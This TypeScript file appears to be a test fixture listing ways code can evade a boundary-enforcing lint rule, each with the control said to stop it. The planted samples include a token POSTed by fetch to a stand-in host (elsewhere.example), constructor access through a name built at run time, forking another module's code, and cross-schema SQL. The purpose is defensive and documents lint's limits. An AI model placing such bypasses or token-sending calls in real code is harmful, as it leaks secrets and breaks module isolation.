import type { Gap } from './case.js';

/** Ways that lint does not see. They are planted too, so that the page stays exact: lint must be silent about them. */
export const gaps: Gap[] = [
  {
    way: 'a member whose name is put together at run time',
    file: 'src/billing/gap-computed.ts',
    code: `const name = 'const' + 'ructor';\nexport const inside = (facade: Record<string, unknown>) => facade[name];`,
    stoppedBy: 'review; nothing to steal in reach (frozen facade, `#private`); the process of its own',
  },
  {
    way: 'a path as plain text, which says where a file is but cannot load it',
    file: 'src/billing/gap-path.ts',
    code: `const here = import.meta.url;\nexport const path = new URL('../payments/payment/payment.entity.js', here);`,
    stoppedBy:
      'import() and require() take only what lint can read; neighbours have no builtin that loads or reads files',
  },
  {
    way: 'SQL whose parts meet at run time',
    file: 'src/billing/gap-sql.ts',
    code: `const owner = 'payments';\nexport const statement = \`SELECT last_four FROM \${owner}.payment_method\`;`,
    stoppedBy: "the database: the application's role has no privilege on the schema",
  },
  {
    way: "an address of the gateway's API, called by hand",
    file: 'src/billing/gap-api.ts',
    code: `export const charge = (key: string) => fetch('https://api.stripe.com/v1/payment_intents', { method: 'POST', headers: { authorization: key } });`,
    stoppedBy: 'the key is not in the environment after the start; egress rules of the process of its own',
  },
  {
    way: "the facade's own properties, listed",
    file: 'src/billing/gap-facade.ts',
    code: `import { Injectable } from '@nestjs/common';
import { Payments } from '../payments/payments.contract.js';
@Injectable()
export class Curious {
  constructor(private readonly payments: Payments) {}
  look(): unknown[] {
    return Object.values(this.payments);
  }
}`,
    stoppedBy: 'the facade is frozen, and what it holds is `#private`',
  },
  {
    way: 'the platform hands a power of its own to a neighbour',
    file: 'src/platform/gap-power.ts',
    code: `export { fork } from 'node:child_process';`,
    stoppedBy: 'code owners of src/platform',
  },
  {
    way: 'a file of payments started as a program by its path in a string',
    file: 'src/platform/gap-started.ts',
    code: `import { fork } from 'node:child_process';\nexport const start = () => fork('dist/payments/payment/payments.service.js');`,
    stoppedBy: 'code owners of src/platform; neighbours have no builtin that starts a program',
  },
  {
    way: 'a leak written inside payments',
    file: 'src/payments/payment/gap-leak.ts',
    code: `export const say = (token: string) => fetch('https://elsewhere.example', { method: 'POST', body: token });`,
    stoppedBy: 'code owners of src/payments; egress rules of the process of its own',
  },
];
